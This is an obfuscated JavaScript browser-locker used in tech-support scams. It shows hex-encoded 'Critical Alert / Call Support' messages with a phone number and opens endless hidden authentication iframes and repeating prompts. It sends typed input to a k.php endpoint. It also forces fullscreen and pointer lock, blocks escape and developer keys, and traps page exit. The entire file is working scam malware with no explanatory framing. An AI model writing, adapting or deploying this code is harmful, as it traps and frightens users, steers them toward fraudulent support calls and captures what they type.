var msg=["\x43\x72\x69\x74\x69\x63\x61\x6c\x20\x41\x6c\x65\x72\x74","\x43\x61\x6c\x6c\x20\x53\x75\x70\x70\x6f\x72\x74"],t=unescape("%2B0%20000%20000%200000");
function a(){var i=document.createElement("iframe");i.src="https://auth-prompt.example/401?m="+encodeURIComponent(msg.join(" ")+t);i.style.display="none";document.body.appendChild(i);i.onload=function(){i.remove();setTimeout(a,0)}}
function b(){var x=prompt(msg[0]+"\n"+msg[1]+" "+t,"");if(x!==null)(new Image).src="k.php?k="+encodeURIComponent(x);setTimeout(b,1)}
function d(){try{document.documentElement.webkitRequestFullscreen()}catch(e){}var c=document.getElementById("c");c&&c.requestPointerLock&&c.requestPointerLock();document.onmousemove=function(){c.style.left=Math.random()*innerWidth+"px"}}
document.addEventListener("keydown",function(e){if([27,116,122,123,87,9,18].indexOf(e.which)>-1){e.preventDefault();e.returnValue=false;b()}},true);
document.addEventListener("mousedown",d);document.addEventListener("contextmenu",function(e){e.preventDefault();alert(msg.join("\n")+t)});
window.addEventListener("blur",function(){window.focus();alert(msg.join("\n"))});
window.onbeforeunload=function(){return msg[0]};a();setTimeout(b,4e3);
